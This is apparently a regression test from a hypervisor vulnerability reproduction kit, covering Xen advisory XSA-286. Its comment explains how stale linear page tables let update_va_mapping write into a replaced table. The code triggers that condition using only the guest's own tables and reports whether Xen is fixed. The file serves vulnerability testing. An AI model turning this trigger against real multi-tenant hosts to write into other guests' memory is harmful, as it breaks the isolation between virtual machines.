/*
 * XSA-286 (CVE-2020-27674): Xen's own view of the page tables, stale.
 *
 * @title     update_va_mapping writes to the table that was there before
 * @affected  Xen up to 4.14.0; fixed in 4.14.1
 * @platforms xen-pv
 * @expect    4=good
 *
 * Background: a guest that changes an upper level of its page tables flushes the TLB when it wants
 * to. What Xen itself uses is no concern of the guest's.
 *
 * Mechanism: for update_va_mapping Xen went by its linear page tables, addresses whose translation
 * depends on the upper levels and is in the TLB too. After a change of an upper level without a
 * flush it wrote into the table that had been there before: perhaps another guest's frame by then.
 *
 * Here both tables are ours. In one multicall the table of a region is exchanged and an entry of
 * the new one written; before that Xen is made to use the old one.
 *
 * Verdicts: good: the entry is in the new table. bad: it is in the old one.
 *
 * Cannot tell: whether the TLB of this CPU, here an emulated one, kept the old translation.
 */
#include "repro/kit.h"

#define TABLE (PTE_PRESENT | PTE_WRITE | PTE_ACCESSED | PTE_USER)
#define DATA  (PTE_PRESENT | PTE_ACCESSED | PTE_NX)
#define INDEX 5

REPRO("xsa-286")
{
    u64 region, *old_table, *new_table, old_entry, page;
    struct mmu_update exchange;
    struct multicall_entry calls[3];

    kit_needs(KIT_XEN_PV);
    region = kit_region();
    old_entry = kit_entry(region, 2);
    old_table = pfn_to_va(pv_mfn_to_pfn(MFN((old_entry & PTE_FRAME_MASK) >> PAGE_SHIFT)));
    new_table = kit_table();
    page = KIT_RAW(kit_frame(), DATA);
    exchange.ptr = kit_entry_address(region, 2);
    exchange.val = KIT_RAW(new_table, TABLE);
    calls[0] = MULTICALL(__HYPERVISOR_update_va_mapping, region + INDEX * PAGE_SIZE, 0, 0);
    calls[1] = MULTICALL(__HYPERVISOR_mmu_update, (u64)&exchange, 1, 0, DOMID_SELF);
    calls[2] = MULTICALL(__HYPERVISOR_update_va_mapping, region + INDEX * PAGE_SIZE, page, 0);
    MUST(hc_multicall(calls, 3));
    for (u32 i = 0; i < 3; i++)
        MUST((long)calls[i].result);
    exercised();
    if (READ_ONCE(new_table[INDEX]) && !READ_ONCE(old_table[INDEX]))
        good("the entry is in the new table");
    bad("the entry is in the old table: 0x%llx, 0x%llx in the new one",
        (unsigned long long)old_table[INDEX], (unsigned long long)new_table[INDEX]);
}
